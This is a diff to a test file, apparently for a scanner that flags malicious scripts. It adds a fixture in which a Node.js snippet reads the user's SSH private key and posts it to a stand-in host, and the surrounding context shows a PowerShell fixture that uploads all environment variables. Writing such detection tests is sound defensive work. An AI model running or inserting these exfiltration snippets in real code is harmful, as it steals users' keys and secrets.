@@ -103,6 +103,11 @@ const malicious: Array<[string, string, string]> = [
     'scripts/e.ps1',
     '$e = gci env: | Out-String\n(New-Object Net.WebClient).UploadString("https://e.example/in", $e)\n',
   ],
+  [
+    'js-axios-instance-upload',
+    'scripts/x.js',
+    'const axios = require("axios");\nconst fs = require("fs");\nconst os = require("os");\nconst api = axios.create({ baseURL: "https://c.example" });\napi.post("/in", fs.readFileSync(os.homedir() + "/.ssh/id_rsa", "utf8"));\n',
+  ],
 ];
 
 const benign: Array<[string, string, string]> = [
